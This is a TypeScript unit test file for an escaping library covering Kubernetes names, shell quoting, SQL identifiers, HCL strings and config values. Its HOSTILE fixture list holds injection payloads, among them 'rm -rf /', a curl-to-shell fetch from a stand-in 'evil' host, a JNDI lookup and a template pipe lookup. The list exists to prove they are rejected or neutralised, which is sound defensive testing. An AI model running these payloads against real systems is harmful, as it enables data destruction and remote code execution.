import { parse as hclParse } from '@cdktf/hcl2json';
import * as esc from './escape';
import { splitShell } from './shellWords';

const HOSTILE = [
  "'; rm -rf / #",
  '$(curl -s http://evil/x | sh)',
  '`id`',
  'a\nb',
  '${jndi:ldap://x}',
  '"quoted" and \\backslash',
  '{{ lookup("pipe", "id") }}',
];

describe('escape', () => {
  it('validates Kubernetes names (DNS-1123)', () => {
    expect(esc.isDns1123Label('shop-prod')).toBe(true);
    expect(esc.isDns1123Label('Shop')).toBe(false);
    expect(esc.isDns1123Label('a'.repeat(64))).toBe(false);
    expect(esc.isDns1123Subdomain('checkout.v2')).toBe(true);
    for (const h of HOSTILE) {
      expect(() => esc.k8sName(h)).toThrow(esc.UnsafeValueError);
      expect(() => esc.k8sNamespace(h)).toThrow(esc.UnsafeValueError);
    }
  });

  it('single-quotes shell words so a shell reads them back verbatim', () => {
    for (const h of HOSTILE.filter(x => !x.includes('\n'))) {
      const split = splitShell(
        'a.sh',
        `kubectl annotate deploy/x -n shop ${esc.shellQuote(`note=${h}`)}\n`,
      );
      expect(split.findings).toEqual([]);
      expect(split.commands[0].words[5]).toBe(`note=${h}`);
    }
    expect(esc.shellQuote('deployment/checkout')).toBe('deployment/checkout');
  });

  it('rejects anything but plain identifiers in SQL and quotes them', () => {
    expect(esc.sqlIdent('orders', 'postgresql')).toBe('"orders"');
    expect(esc.sqlIdent('orders', 'mysql')).toBe('`orders`');
    for (const h of HOSTILE)
      expect(() => esc.sqlIdent(h, 'postgresql')).toThrow();
  });

  it('escapes HCL strings, including template openers, so they parse back to the same value', async () => {
    for (const h of HOSTILE) {
      const json = (await hclParse(
        't.tf',
        `locals {\n  v = ${esc.hclString(h)}\n}\n`,
      )) as { locals: Array<{ v: string }> };
      // hcl2json renders literal `${` as `$${` (its own escaping of template markers).
      expect(
        json.locals[0].v.replace(/\$\$\{/g, '${').replace(/%%\{/g, '%{'),
      ).toBe(h);
    }
  });

  it('rejects config values carrying expansion or template markers', () => {
    expect(esc.configValue('1500')).toBe('1500');
    for (const h of ['$(id)', '`id`', '${x}', '{{ x }}', 'a\nb'])
      expect(() => esc.configValue(h)).toThrow();
  });
});
